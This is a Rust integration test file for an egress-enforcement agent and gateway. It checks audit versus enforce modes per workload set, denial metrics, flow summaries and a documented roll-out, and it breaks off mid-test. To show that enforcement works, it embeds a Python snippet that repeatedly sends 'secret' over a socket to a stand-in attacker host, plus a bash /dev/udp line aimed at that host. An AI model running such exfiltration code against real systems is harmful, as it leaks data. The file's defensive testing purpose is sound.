//! Audit mode, set by set: what one set's workloads do passes and is told as what would have been
//! refused, while another's is refused; switching disturbs nothing that is allowed in both modes.

#![expect(clippy::unwrap_used, reason = "a test that can't go on has failed")]

use std::{
    fs,
    net::SocketAddr,
    path::{Path, PathBuf},
    time::Duration,
};

use egress_tests::{
    capture::Capture,
    cgroup::{self, below_mount},
    cluster::{Cluster, ask},
    manifests::Walkthrough,
    page::{self, Step},
    plan,
    process::{Place, Process},
    testbed::{Testbed, mesh_yaml},
    wait::{SOON, patience, until, until_is},
};

/// Longer than a download takes.
const LONG: Duration = Duration::from_secs(90);
/// The set that the pod is in; its neighbour is in none.
const SET: &str = "batch";
const URL: &str = "https://edition.cnn.com/";
const DOWNLOAD: &str = "https://edition.cnn.com/download";
/// What `/download` has.
const DOWNLOAD_BYTES: u64 = 40 << 20;
/// What the peer in the cluster is asked for.
const INSIDE_BYTES: u64 = 40_000_000;

/// `mesh.yaml` with the pod in the set `batch`, in a mode, and another mode for all others.
fn mesh(testbed: &Testbed, default: &str, batch: &str, more: &str) -> String {
    let text = mesh_yaml(1).replace("enforcement: enforce", &format!("enforcement: {default}"));
    let pod = below_mount(&testbed.pod().cgroup).unwrap();
    format!(
        "{text}enforcementOverrides:\n- name: pinned\n  labels: {{app: pinned}}\n  mode: enforce\n\
         - name: {SET}\n  namespaces: [dev]\n  mode: {batch}\n\
         workloads:\n- name: job\n  namespace: dev\n  addresses: [{}, \"{}\"]\n  cgroups: [{pod}]\n\
         {more}",
        plan::POD,
        plan::POD_V6
    )
}

/// Puts the modes in force, and waits until the kernel has them.
fn switch(testbed: &Testbed, default: &str, batch: &str, more: &str) {
    testbed.apply_mesh(&mesh(testbed, default, batch, more)).unwrap();
    for (set, mode) in [("default", default), (SET, batch)] {
        in_force(testbed, set, mode);
    }
}

fn in_force(testbed: &Testbed, set: &str, mode: &str) {
    let series = format!("egress_enforcement_mode{{set=\"{set}\",mode=\"{mode}\"}} 1");
    until(SOON, &series, || {
        testbed.node_metrics().ok()?.lines().any(|line| line == series).then_some(())
    })
    .unwrap();
}

/// How often the node counted a denial for this reason, carried out or not.
fn counted(testbed: &Testbed, reason: &str, audit: bool) -> u64 {
    let metrics = testbed.node_metrics().unwrap_or_default();
    let wanted = format!("action=\"deny\",reason=\"{reason}\",audit=\"{audit}\"");
    metrics
        .lines()
        .filter(|line| line.contains(&wanted))
        .filter_map(|line| line.rsplit(' ').next()?.parse::<u64>().ok())
        .sum()
}

/// Dials the attacker from there, and checks all that must be true of it in this mode.
fn dials(testbed: &Testbed, node: &Process, capture: &Capture, from: &Place, audit: bool) {
    let (events, before) = (node.stdout().len(), counted(testbed, "no_route", audit));
    capture.take();
    let done = ask(from, "tcp", plan::ATTACKER, plan::TCP_PORTS[0], &[]).unwrap();
    let arrived = capture.take();
    assert_eq!(done.ok(), audit, "{done:?}");
    assert_eq!(!arrived.is_empty(), audit, "{arrived:#?}");
    until_is(
        SOON,
        &format!("a refusal, audit {audit}, to be counted"),
        || counted(testbed, "no_route", audit),
        |now| *now > before,
    )
    .unwrap();
    let wanted = if audit { "would deny (no_route)" } else { "DENIED (no_route)" };
    until_is(
        SOON,
        &format!("an event that says {wanted}"),
        || node.stdout().get(events..).unwrap_or_default().to_owned(),
        |new| new.lines().any(|line| line.contains(wanted)),
    )
    .unwrap();
}

#[test]
fn two_sets_are_in_different_modes_at_the_same_time() {
    let testbed = Testbed::test(1).unwrap();
    let cluster = Cluster::grow(&testbed).unwrap();
    testbed.apply_mesh(&mesh(&testbed, "enforce", "audit", "")).unwrap();
    let node = testbed.start_node_with(&cluster.node_args(&testbed)).unwrap();
    let capture = testbed.capture().unwrap();
    in_force(&testbed, SET, "audit");
    let (pod, neighbour, on_host) = (testbed.pod(), &cluster.neighbour, testbed.host_network());
    let dials = |from: &Place, audit: bool| dials(&testbed, &node, &capture, from, audit);

    // The pod's interface and its cgroup are in audit mode, and so is the uplink for its packets.
    dials(pod, true);
    dials(&on_host, true);
    dials(neighbour, false);
    let set = format!(", set {SET}");
    assert!(node.stdout().lines().any(|line| line.contains("would deny") && line.ends_with(&set)));
    // It is shouted: at the configuration's line, and as what the kernel does.
    let log = node.stderr();
    for said in ["enforcementOverrides[1].mode", "not enforced: audit: batch"] {
        assert!(log.contains(said), "{said}: {log}");
    }
    in_force(&testbed, "default", "enforce");

    // The other way round.
    switch(&testbed, "audit", "enforce", "");
    dials(pod, false);
    dials(&on_host, false);
    dials(neighbour, true);

    // A cgroup of the pod that is named before it is there: until it is, it has the pod's set.
    switch(&testbed, "enforce", "audit", "");
    let late = pod.cgroup.join("late");
    let more = format!(
        "- name: late\n  labels: {{app: pinned}}\n  cgroups: [\"{}\"]\n",
        below_mount(&late).unwrap()
    );
    switch(&testbed, "enforce", "audit", &more);
    cgroup::create(&late).unwrap();
    let in_late = Place { cgroup: late.clone(), ..on_host.clone() };
    let refused = || ask(&in_late, "tcp", plan::ATTACKER, plan::TCP_PORTS[0], &[]).unwrap();
    until_is(SOON, "the late cgroup to be enforced on", refused, |done| !done.ok()).unwrap();
    dials(&in_late, false);
    dials(&on_host, true);
    fs::remove_dir(&late).unwrap();

    // All enforced again, and said so.
    switch(&testbed, "enforce", "enforce", "");
    for from in [pod, &on_host, neighbour] {
        dials(from, false);
    }
    until(SOON, "the end of audit in the log", || {
        node.stderr().contains("every set of workloads is enforced on").then_some(())
    })
    .unwrap();
}

/// Starts a download in the pod that takes some seconds, and waits until it is under way.
fn download(testbed: &Testbed, name: &str, url: &str) -> (Process, PathBuf) {
    let file = testbed.dir().join(name);
    let path = file.to_string_lossy().into_owned();
    // It has to last longer than the switching, on a slow machine too.
    let (limit, rate) = (120 * patience(), 2048 / patience());
    let (limit, rate) = (limit.to_string(), format!("{rate}K"));
    let args = ["-sS", "--max-time", &limit, "--limit-rate", &rate, "-o", &path, url];
    let process = testbed.pod().start(&testbed.dir(), name, "curl", &args).unwrap();
    until(SOON, &format!("{name} to be under way"), || {
        fs::metadata(&file).ok().filter(|meta| meta.len() > 1 << 20)
    })
    .unwrap_or_else(|error| panic!("{error:#}: {}", process.stderr()));
    (process, file)
}

/// Dials the attacker and asks it for an echo again and again; says `ok` for each.
const PERSISTENT: &str = "
import socket, sys, time
to, port = sys.argv[1], int(sys.argv[2])
connection = socket.create_connection((to, port), timeout=5)
connection.settimeout(60)
while True:
    connection.sendall(b'secret')
    if not connection.recv(100):
        break
    print('ok', flush=True)
    time.sleep(0.05)
";

#[test]
fn switching_disturbs_nothing_that_is_allowed_and_cuts_what_only_audit_let_pass() {
    let testbed = Testbed::test(1).unwrap();
    let cluster = Cluster::grow(&testbed).unwrap();
    Walkthrough::example().unwrap().passthrough.apply(&testbed).unwrap();
    testbed.apply_mesh(&mesh(&testbed, "enforce", "enforce", "")).unwrap();
    let _gateway = testbed.start_gateway(0).unwrap();
    let _node = testbed.start_node_with(&cluster.node_args(&testbed)).unwrap();
    let capture = testbed.capture().unwrap();
    let served = || testbed.curl_status(&[URL]).unwrap();
    until_is(SOON, "the allowed way", served, |seen| seen == "200").unwrap();
    assert_eq!(capture.take(), Vec::<String>::new());

    let inside = format!("http://{}:{}/{INSIDE_BYTES}", plan::NEIGHBOUR, plan::PEER_HTTP);
    let mut downloads = [
        (download(&testbed, "by-the-gateway", DOWNLOAD), DOWNLOAD_BYTES),
        (download(&testbed, "inside", &inside), INSIDE_BYTES),
    ];
    let mut running = |when: &str| {
        for ((process, _), _) in &mut downloads {
            assert!(process.ended().is_none(), "{when}: {}", process.stderr());
        }
    };

    switch(&testbed, "enforce", "audit", "");
    running("in audit mode");
    let args = ["-c", PERSISTENT, plan::ATTACKER, &plan::TCP_PORTS[0].to_string()];
    let mut leak = testbed.pod().start(&testbed.dir(), "leak", "/usr/bin/python3", &args).unwrap();
    let echoes = |leak: &Process| leak.stdout().lines().count();
    until_is(SOON, "a connection that only audit lets pass", || echoes(&leak), |now| *now > 3)
        .unwrap_or_else(|error| panic!("{error:#}: {}", leak.stderr()));
    assert!(!capture.take().is_empty());

    let before = counted(&testbed, "no_route", false);
    switch(&testbed, "enforce", "enforce", "");
    running("enforced again");
    capture.take();
    // Its packets are refused, or it is closed altogether.
    until(SOON, "the connection to be cut", || {
        (counted(&testbed, "no_route", false) > before || leak.ended().is_some()).then_some(())
    })
    .unwrap();
    let at_the_switch = echoes(&leak);
    let dialled = ask(testbed.pod(), "tcp", plan::ATTACKER, plan::TCP_PORTS[0], &[]).unwrap();
    assert!(!dialled.ok(), "{dialled:?}");
    assert_eq!(capture.frames(), Vec::<String>::new());
    assert_eq!(echoes(&leak), at_the_switch, "the connection is cut");

    for ((process, file), bytes) in &mut downloads {
        let ended = process.wait(LONG).unwrap_or_else(|error| panic!("{error:#}"));
        assert!(ended.success(), "{}: {}", file.display(), process.stderr());
        assert_eq!(fs::metadata(&file).unwrap().len(), *bytes, "{}", file.display());
    }
    assert_eq!(served(), "200");
    assert_eq!(capture.frames(), Vec::<String>::new());
}

/// An interface that only a pattern covers: its pod is unknown until a workload names it, has that
/// workload's addresses and no others, and is unknown again afterwards. Who is unknown reaches the inside
/// under the addresses that the interface had first.
#[test]
fn an_interface_behind_a_pattern_is_known_once_a_workload_names_it() {
    let testbed = Testbed::test(0).unwrap();
    let mut args = testbed.node_args();
    let given = args.iter().position(|arg| arg.starts_with(plan::POD_INTERFACE)).unwrap();
    args[given] = "po*".into();
    let node = testbed.start_node_with(&args).unwrap();
    let pod = testbed.pod();
    let reaches_from = |source: &str| {
        pod.run("ping", &["-c1", "-W1", "-I", source, plan::CLUSTER_DNS]).unwrap().ok()
    };
    let reaches = || reaches_from(plan::POD);
    let said = |reason: &str| {
        until(SOON, reason, || node.stdout().contains(reason).then_some(())).unwrap();
    };
    until_is(SOON, "the inside", reaches, |reached| *reached).unwrap();
    // An address that the pod gives itself afterwards isn't its own.
    let other = "10.244.1.99";
    assert!(pod.run("ip", &["addr", "add", &format!("{other}/24"), "dev", "eth0"]).unwrap().ok());
    assert!(!reaches_from(other), "an address that wasn't there first");
    said("spoofed_source");
    // Not of the cgroup that the agent attaches to, which has the default policy.
    let elsewhere = testbed.outside_cgroup();
    let outside = || elsewhere.run("ping", &["-c1", "-W1", plan::WEB]).unwrap().ok();
    assert!(!outside(), "no workload names it");
    said("unknown_workload");
    let unknown = |expected: u64| {
        let series = format!("egress_unknown_interfaces {expected}");
        let shown = || {
            let metrics = testbed.node_metrics().ok()?;
            metrics.lines().any(|line| line == series).then_some(())
        };
        until(SOON, &series, shown).unwrap();
    };
    unknown(1);

    let named = format!(
        "{}workloads:\n- name: job\n  interface: {}\n  addresses: [{}]\n",
        mesh_yaml(0),
        plan::POD_INTERFACE,
        plan::POD
    );
    testbed.apply_mesh(&named).unwrap();
    unknown(0);
    // Refused as no unknown pod is: the workload's policy is in force.
    let by_its_policy = || {
        assert!(!outside());
        node.stdout().contains("(protocol)").then_some(())
    };
    until(SOON, "a refusal by the workload's policy", by_its_policy).unwrap();
    assert!(reaches());
    assert!(!reaches_from(other), "an address that isn't the workload's");

    testbed.apply_mesh(&mesh_yaml(0)).unwrap();
    unknown(1);
    assert!(reaches() && !outside());
}

/// Audit changes nothing for a pod that is not known either, unless some set is enforced on: then it may be
/// in that one.
#[test]
fn an_unknown_pod_is_audited_where_every_set_is() {
    let testbed = Testbed::test(0).unwrap();
    let audited = mesh_yaml(0).replace("enforcement: enforce", "enforcement: audit");
    testbed.apply_mesh(&audited).unwrap();
    let mut args = testbed.node_args();
    let given = args.iter().position(|arg| arg.starts_with(plan::POD_INTERFACE)).unwrap();
    args[given] = "po*".into();
    let node = testbed.start_node_with(&args).unwrap();
    in_force(&testbed, "default", "audit");
    let echo = || ask(testbed.pod(), "udp", plan::ATTACKER, plan::UDP_PORT, &[]).unwrap().ok();
    assert!(echo(), "nothing is dropped");
    let told = || {
        let reported = |line: &str| line.contains("unknown_workload") && line.contains(" at pod");
        node.stdout().lines().any(reported).then_some(())
    };
    until(SOON, "the packet to be reported", told).unwrap();

    let other = "enforcementOverrides:\n- name: other\n  namespaces: [dev]\n  mode: enforce\n";
    testbed.apply_mesh(&format!("{audited}{other}")).unwrap();
    in_force(&testbed, "other", "enforce");
    assert!(!echo(), "it may be in the set that is enforced on");
}

/// A set in audit mode with redirects, as `mesh` puts it.
const REDIRECT: &str = "audit\n  redirect: true";
/// Routed by its port; no `ServiceEntry` names it.
const FORBIDDEN_NAME: &str = "https://www.example.com/";

/// Rows of `flows --verdict denied --summary` of an agent: workload, destination, verdict and reason.
fn summary(testbed: &Testbed, control: &Path) -> Vec<String> {
    let pins = testbed.pins();
    let args = ["flows", "--verdict", "denied", "--summary", "-o", "json", "--control"];
    let rest = [control.to_str().unwrap(), "--bpffs", pins.to_str().unwrap()];
    let args = [&args[..], &rest].concat();
    let done = testbed.app().run(&testbed.agent().to_string_lossy(), &args).unwrap();
    assert!(done.ok(), "{done:?}");
    let row = |line: &str| {
        let row: serde_json::Value = serde_json::from_str(line).unwrap();
        assert!(row["times"].as_u64().unwrap() > 0 && row["first"].is_string(), "{row}");
        let text = |key: &str| row[key].as_str().unwrap().to_owned();
        ["workload", "destination", "verdict", "reason"].map(text).join(" ")
    };
    let mut rows: Vec<String> = done.stdout.lines().map(row).collect();
    rows.sort();
    rows
}

/// What has no route, by protocol, address and port, and why it is refused.
const FORBIDDEN: [(&str, &str, u16, &str); 4] = [
    ("tcp", plan::ATTACKER, plan::TCP_PORTS[0], "no_route"),
    ("tcp", plan::ATTACKER_V6, plan::TCP_PORTS[0], "no_route"),
    ("udp", plan::ATTACKER, plan::UDP_PORT, "protocol"),
    ("udp", plan::ATTACKER_V6, plan::UDP_PORT, "protocol"),
];

/// The same of a pod that is not known: nothing external is allowed to it, routed or not, and with redirects
/// nothing is redirected either. Its interface stands for its name.
#[test]
fn the_summary_of_an_unknown_pod_names_what_enforcement_refuses() {
    for mode in ["audit", REDIRECT] {
        let testbed = Testbed::test(1).unwrap();
        Walkthrough::example().unwrap().passthrough.apply(&testbed).unwrap();
        let in_mode = |mode: &str| {
            let mode = mode.replace("\n  ", "\n");
            mesh_yaml(1).replace("enforcement: enforce", &format!("enforcement: {mode}"))
        };
        testbed.apply_mesh(&in_mode(mode)).unwrap();
        let _gateway = testbed.start_gateway(0).unwrap();
        let mut args = testbed.node_args();
        let given = args.iter().position(|arg| arg.starts_with(plan::POD_INTERFACE)).unwrap();
        args[given] = "po*".into();
        let _node = testbed.start_node_with(&args).unwrap();
        in_force(&testbed, "default", if mode == "audit" { "audit" } else { "audit_redirect" });

        // No hook of a cgroup sees it.
        let pod = testbed.outside_cgroup();
        let allowed = || assert!(pod.run("ping", &["-c1", "-W5", plan::CLUSTER_DNS]).unwrap().ok());
        let forbidden = || {
            let asked = FORBIDDEN.map(|(protocol, to, port, _)| ask(&pod, protocol, to, port, &[]));
            let routed = pod.run(
                "curl",
                &[
                    "-sk",
                    "-o",
                    "/dev/null",
                    "--max-time",
                    "5",
                    "--resolve",
                    &format!("{}:443:{}", plan::HOST, plan::WEB),
                    URL,
                ],
            );
            [asked.map(|done| done.unwrap().ok()).to_vec(), vec![routed.unwrap().ok()]].concat()
        };
        let of_node = || summary(&testbed, &testbed.node_control());
        let expected = |verdict: &str| {
            let to = FORBIDDEN.map(|(_, to, port, _)| SocketAddr::new(to.parse().unwrap(), port));
            let routed = SocketAddr::new(plan::WEB.parse().unwrap(), 443);
            let row = |to: &SocketAddr| {
                format!("{} {to} {verdict} unknown_workload", plan::POD_INTERFACE)
            };
            let mut rows: Vec<String> = to.iter().chain([&routed]).map(row).collect();
            rows.sort();
            rows
        };
        allowed();
        assert_eq!(forbidden(), [true; 5], "{mode}");
        until_is(SOON, mode, of_node, |rows| *rows == expected("would deny")).unwrap();

        testbed.apply_mesh(&in_mode("enforce")).unwrap();
        in_force(&testbed, "default", "enforce");
        allowed();
        assert_eq!(forbidden(), [false; 5], "{mode}");
        let both = |rows: &Vec<String>| {
            let mut all = [expected("would deny"), expected("denied")].concat();
            all.sort();
            *rows == all
        };
        until_is(SOON, "what was refused", of_node, both).unwrap();
    }
}

/// The roll-out that the documentation describes: audit, audit with redirects, enforce. What the summaries name
/// is exactly what enforcement refuses afterwards.
#[test]
fn the_summaries_name_what_enforcement_refuses_and_nothing_else() {
    let testbed = Testbed::test(1).unwrap();
    let cluster = Cluster::grow(&testbed).unwrap();
    Walkthrough::example().unwrap().passthrough.apply(&testbed).unwrap();
    testbed.apply_mesh(&mesh(&testbed, "audit", "audit", "")).unwrap();
    let _gateway = testbed.start_gateway(0).unwrap();
    let node = testbed.start_node_with(&cluster.node_args(&testbed)).unwrap();
    in_force(&testbed, SET, "audit");
    // Before a gateway is known to be healthy, what is routed passes and is reported.
    let healthy = || {
        let metrics = testbed.node_metrics().unwrap_or_default();
        let is_healthy =
            |line: &str| line.starts_with("egress_gateway_healthy{") && line.ends_with(" 1");
        metrics.lines().any(is_healthy).then_some(())
    };
    until(SOON, "the gateway to be healthy", healthy).unwrap();
    let pod = testbed.pod();

    // Allowed, over IPv4 and IPv6: a large download, a peer in the cluster, and a UDP socket that sends nothing.
    // Forbidden: a port without a route, and a datagram.
    let allowed = || {
        let args = ["-s", "-4", "-o", "/dev/null", "-w", "%{http_code}", DOWNLOAD];
        let done = pod.run_for(LONG, "curl", &args).unwrap();
        assert!(done.ok() && done.stdout == "200", "{done:?}");
        for (peer, attacker) in
            [(plan::NEIGHBOUR, plan::ATTACKER), (plan::NEIGHBOUR_V6, plan::ATTACKER_V6)]
        {
            for protocol in ["tcp", "udp"] {
                assert!(ask(pod, protocol, peer, plan::PEER_ECHO, &[]).unwrap().ok());
            }
            let connect = format!("exec 3<>/dev/udp/{attacker}/53");
            assert!(pod.run("bash", &["-c", &connect]).unwrap().ok());
        }
    };
    let forbidden =
        || FORBIDDEN.map(|(protocol, to, port, _)| ask(pod, protocol, to, port, &[]).unwrap().ok());
    // Which names are allowed on a routed port, only the gateway decides.
    let name = || testbed.curl_status(&[FORBIDDEN_NAME]).unwrap();
    let reported = |what: &str| {
        let count = || node.stdout().matches(what).count();
        until_is(SOON, &format!("one event {what}"), count, |count| *count == 1).unwrap();
    };
    // The neighbour may have sent something before the agent knew its interface. Nobody else did.
    let of_node = || {
        let mut rows = summary(&testbed, &testbed.node_control());
        rows.retain(|row| !row.starts_with(&format!("{} ", plan::NEIGHBOUR_INTERFACE)));
        rows
    };
    let of_gateway = || summary(&testbed, &testbed.gateway_control(0));
    let expected = |verdict: &str| {
        let row = |(_, to, port, reason): (&str, &str, u16, &str)| {
            let to = SocketAddr::new(to.parse().unwrap(), port);
            format!("dev/job {to} {verdict} {reason}")
        };
        let mut rows = FORBIDDEN.map(row);
        rows.sort();
        rows
    };
    let is_expected = |rows: &Vec<String>| *rows == expected("would deny");

    allowed();
    assert_eq!(forbidden(), [true; 4]);
    reported(" AUDIT would redirect (routed)");
    until_is(SOON, "the node's summary", of_node, is_expected).unwrap();
    assert_eq!(of_gateway(), Vec::<String>::new(), "it sees nothing");

    testbed.apply_mesh(&mesh(&testbed, "audit", REDIRECT, "")).unwrap();
    in_force(&testbed, SET, "audit_redirect");
    allowed();
    reported(" REDIRECTED (routed)");
    assert_ne!(name(), "200");
    assert_eq!(forbidden(), [true; 4]);
    assert_eq!(counted(&testbed, "not_redirected", true), 0);
    until_is(SOON, "the node's summary", of_node, is_expected).unwrap();
    let refused = "dev/job www.example.com:443 denied host_not_in_registry";
    until_is(SOON, "the gateway's summary", of_gateway, |rows| *rows == [refused]).unwrap();

    // Enforced, that is what is refused, and the rest goes on.
    switch(&testbed, "enforce", "enforce", "");
    allowed();
    assert_eq!(forbidden(), [false; 4]);
    assert_ne!(name(), "200");
    let both = |rows: &Vec<String>| {
        let mut expected = [expected("would deny"), expected("denied")].concat();
        expected.sort();
        *rows == expected
    };
    until_is(SOON, "the node's summary of what was refused", of_node, both).unwrap();
    assert_eq!(of_gateway(), [refused]);
}

const OPERATIONS: &str = "docs/operations.md";
const AUDIT_FIRST: &str = "Audit first";

/// The settings of the page's step, with this site's pod and cgroup, in `mesh.yaml`.
fn documented(step: &str, [nightly, web]: [&Path; 2]) -> String {
    let mine = [
        ("10.20.0.21", plan::POD.to_owned()),
        ("ve-nightly", plan::POD_INTERFACE.to_owned()),
        ("/machine.slice/systemd-nspawn@nightly.service", below_mount(nightly).unwrap()),
        ("/workloads.slice/workloads-web.slice", below_mount(web).unwrap()),
    ];
    let step = mine.iter().fold(step.to_owned(), |text, (from, to)| text.replace(from, to));
    mesh_yaml(1).replace("enforcement: enforce\n", "") + &step
}

/// Types a command of the page on the application host, or with another control socket on the gateway's.
fn typed(testbed: &Testbed, line: &str, control: &Path) -> String {
    let (agent, pins) = (testbed.agent().display(), testbed.pins());
    let (control, pins) = (control.display(), pins.display());
    let script =
        format!("egress-agent() {{ {agent} \"$@\" --control {control} --bpffs {pins}; }}; {line}");
    let done = testbed.app().run("bash", &["-c", &script]).unwrap();
    assert!(done.ok(), "{line}: {done:?}");
    done.stdout
}

/// The steps of the page, one after the other, with its settings and its commands: a workload behind an interface and
/// one in a cgroup use what is allowed and what is not. The summary has exactly what is not, before anything is
/// refused; then that is refused, set by set.
#[test]
fn the_documented_roll_out_names_what_it_refuses_later() {
    let testbed = Testbed::test(1).unwrap();
    Walkthrough::example().unwrap().passthrough.apply(&testbed).unwrap();
    let blocks = page::blocks(OPERATIONS, AUDIT_FIRST).unwrap();
    let settings: Vec<&str> = blocks
        .iter()
        .filter(|block| block.text.starts_with("enforcement:"))
        .map(|block| &*block.text)
        .collect();
    let [audit, redirect, first, turned] = settings[..] else { panic!("{settings:?}") };
    let (_, workloads) = audit.split_once("workloads:\n").expect("the workloads");
    let commands: Vec<String> = blocks
        .iter()
        .filter_map(|block| block.steps().ok())
        .flatten()
        .filter_map(|step| match step {
            Step::Run(line) => Some(line),
            Step::Write { .. } => None,
        })
        .collect();
    let [show, follow, counted, show_again] = &commands[..] else { panic!("{commands:?}") };
    assert_eq!(show, show_again);

    let [nightly_cgroup, web_cgroup] =
        ["nightly", "web"].map(|name| cgroup::create(&testbed.pod().cgroup.join(name)).unwrap());
    let pod = &Place { cgroup: nightly_cgroup.clone(), ..testbed.pod().clone() };
    let web = Place { cgroup: web_cgroup.clone(), ..testbed.host_network() };
    let apply = |step: &str| {
        let whole = match step.contains("workloads:\n") {
            true => step.to_owned(),
            false => format!("{step}workloads:\n{workloads}"),
        };
        testbed.apply_mesh(&documented(&whole, [&nightly_cgroup, &web_cgroup])).unwrap();
    };
    apply(audit);
    let _gateway = testbed.start_gateway(0).unwrap();
    let node = testbed.start_node().unwrap();
    in_force(&testbed, "default", "audit");
    let healthy = || {
        let metrics = testbed.node_metrics().unwrap_or_default();
        let is = |line: &str| line.starts_with("egress_gateway_healthy{") && line.ends_with(" 1");
        metrics.lines().any(is).then_some(())
    };
    until(SOON, "the gateway to be healthy", healthy).unwrap();

    let allowed = |when: &str| {
        for place in [pod, &web] {
            let args = ["-s", "-o", "/dev/null", "--max-time", "20", DOWNLOAD];
            let ask = || place.run("curl", &args).unwrap();
            until_is(SOON, when, ask, egress_tests::process::Finished::ok)
                .unwrap_or_else(|error| panic!("{error:#}\n{}\n{}", node.stderr(), node.stdout()));
            assert!(place.run("ping", &["-c1", "-W5", plan::APP]).unwrap().ok(), "{when}");
        }
    };
    let forbidden = |place: &Place| {
        FORBIDDEN.map(|(protocol, to, port, _)| ask(place, protocol, to, port, &[]).unwrap().ok())
    };
    let expected = |verdicts: &[(&str, &[&str])]| {
        let mut rows = Vec::new();
        for (workload, verdicts) in verdicts {
            for (verdict, (_, to, port, reason)) in
                verdicts.iter().flat_map(|verdict| FORBIDDEN.map(|row| (verdict, row)))
            {
                let to = SocketAddr::new(to.parse().unwrap(), port);
                rows.push(format!("{workload} {to} {verdict} {reason}"));
            }
        }
        rows.sort();
        rows
    };
    let shows = |wanted: Vec<String>, when: &str| {
        let of_node = || summary(&testbed, &testbed.node_control());
        until_is(SOON, when, of_node, |rows| *rows == wanted).unwrap();
    };
    let both: [&[&str]; 2] = [&["would deny"], &["would deny", "denied"]];
    let (nightly, shop) = ("batch/nightly", "shop/web");

    // 1 and 2: nothing is refused, and everything that will be is shown.
    allowed("audit");
    assert_eq!((forbidden(pod), forbidden(&web)), ([true; 4], [true; 4]));
    shows(expected(&[(nightly, both[0]), (shop, both[0])]), "audit");
    let shown = typed(&testbed, show, &testbed.node_control());
    for (_, to, port, _) in FORBIDDEN {
        let to = SocketAddr::new(to.parse().unwrap(), port).to_string();
        assert_eq!(shown.matches(&to).count(), 2, "{to}: {shown}");
    }
    for name in [plan::WEB, plan::APP, plan::HOST] {
        assert!(!shown.contains(name), "{name} is allowed: {shown}");
    }
    let metrics = typed(&testbed, counted, &testbed.node_control());
    assert!(metrics.contains("reason=\"no_route\""), "{metrics}");
    let args = follow.strip_prefix("egress-agent ").expect("a command of the agent's");
    let (control, pins) = (testbed.node_control(), testbed.pins());
    let options = ["--control", control.to_str().unwrap(), "--bpffs", pins.to_str().unwrap()];
    let args: Vec<&str> = args.split(' ').chain(options).collect();
    let agent = testbed.agent().to_string_lossy();
    let follow = testbed.app().start(&testbed.dir(), "follow", &agent, &args).unwrap();
    until(SOON, "events as they happen", || {
        forbidden(pod);
        follow.stdout().contains("AUDIT would deny (no_route)").then_some(())
    })
    .unwrap_or_else(|error| panic!("{error:#}: {}", follow.stderr()));
    drop(follow);

    // 3: the gateway sees what is routed; the node refuses nothing.
    apply(redirect);
    in_force(&testbed, "default", "audit_redirect");
    allowed("audit with redirects");
    let name = || pod.run("curl", &["-s", "--max-time", "10", FORBIDDEN_NAME]).unwrap().ok();
    assert!(!name(), "the gateway decides on names");
    let at_gateway = || typed(&testbed, show_again, &testbed.gateway_control(0));
    let is_named = |text: &String| text.contains("www.example.com") && !text.contains(plan::HOST);
    until_is(SOON, "the gateway's summary", at_gateway, is_named).unwrap();
    shows(expected(&[(nightly, both[0]), (shop, both[0])]), "audit with redirects");

    // 4: one set is under enforcement.
    apply(first);
    in_force(&testbed, "first", "enforce");
    in_force(&testbed, "default", "audit");
    allowed("the first set");
    assert_eq!((forbidden(pod), forbidden(&web)), ([false; 4], [true; 4]));
    shows(expected(&[(nightly, both[1]), (shop, both[0])]), "the first set");

    // 5: all are.
    apply(turned);
    in_force(&testbed, "default", "enforce");
    allowed("enforcement");
    assert_eq!((forbidden(pod), forbidden(&web)), ([false; 4], [false; 4]));
    shows(expected(&[(nightly, both[1]), (shop, both[1])]), "enforcement");
}

/// The optional step between audit and enforcement: the gateway gets what it gets under enforcement, and the
/// node refuses nothing.
#[test]
fn with_redirects_the_gateway_sees_what_is_routed_and_the_node_refuses_nothing() {
    let testbed = Testbed::test(1).unwrap();
    let cluster = Cluster::grow(&testbed).unwrap();
    Walkthrough::example().unwrap().passthrough.apply(&testbed).unwrap();
    testbed.apply_mesh(&mesh(&testbed, "enforce", REDIRECT, "")).unwrap();
    let mut gateway = testbed.start_gateway(0).unwrap();
    let node = testbed.start_node_with(&cluster.node_args(&testbed)).unwrap();
    let capture = testbed.capture().unwrap();
    in_force(&testbed, SET, "audit_redirect");
    let served = || testbed.curl_status(&[URL]).unwrap();

    // What is routed goes to the gateway, which logs it; no frame leaves the node by another way.
    until_is(SOON, "the way by the gateway", served, |seen| seen == "200").unwrap();
    until_is(SOON, "the gateway's log", || gateway.stdout(), |log| log.contains("edition.cnn.com"))
        .unwrap();
    capture.take();
    assert_eq!(served(), "200");
    assert_eq!(capture.take(), Vec::<String>::new());
    assert!(node.stdout().contains("TCP REDIRECTED (routed) at connect, gateway "));
    // The gateway's own rules are in force.
    assert_ne!(testbed.curl_status(&["https://www.example.com/"]).unwrap(), "200");

    // What has no route passes and is reported; the neighbour, which is enforced on, is refused.
    dials(&testbed, &node, &capture, testbed.pod(), true);
    dials(&testbed, &node, &capture, &cluster.neighbour, false);

    // Without a gateway the pod's connections go where they went before, and that is reported.
    assert!(gateway.end().unwrap().success());
    until_is(SOON, "the way without a gateway", served, |seen| seen == "200").unwrap();
    assert!(!capture.take().is_empty());
    assert!(counted(&testbed, "no_healthy_gateway", true) > 0);
    switch(&testbed, "enforce", "enforce", "");
    capture.take();
    assert_ne!(served(), "200");
    assert_eq!(capture.take(), Vec::<String>::new());
}

/// Both agents' flows as a file has them, for `suggest`.
fn flows(testbed: &Testbed) -> PathBuf {
    let pins = testbed.pins();
    let of = |control: PathBuf| {
        let args = ["flows", "-o", "json", "--bpffs", pins.to_str().unwrap(), "--control"];
        let args = [&args[..], &[control.to_str().unwrap()]].concat();
        let done = testbed.app().run(&testbed.agent().to_string_lossy(), &args).unwrap();
        assert!(done.ok(), "{done:?}");
        done.stdout
    };
    let path = testbed.dir().join("flows.json");
    fs::write(&path, of(testbed.node_control()) + &of(testbed.gateway_control(0))).unwrap();
    path
}

/// From audit mode to enforcement without a resource written by hand: what was seen in audit mode, on the node
/// and at the gateway, becomes policies that allow it and nothing else.
#[test]
fn suggestions_of_the_audit_allow_what_was_seen_and_nothing_else() {
    let testbed = Testbed::test(1).unwrap();
    // The gateway sees names once something leads to it: policies in audit mode do, for the usual ports.
    let audited = "\
apiVersion: egress-enforcer.io/v1alpha1
kind: EgressPolicy
metadata: {name: audit, namespace: dev}
spec:
  mode: Audit
  rules:
  - hosts: [nothing.invalid]
    ports: [{port: 443, protocol: TLS}, {port: 80, protocol: HTTP}]
";
    testbed.apply("policy.yaml", audited).unwrap();
    testbed.apply_mesh(&mesh(&testbed, "audit\nredirect: true", REDIRECT, "")).unwrap();
    let gateway = testbed.start_gateway(0).unwrap();
    let node = testbed.start_node().unwrap();
    in_force(&testbed, SET, "audit_redirect");
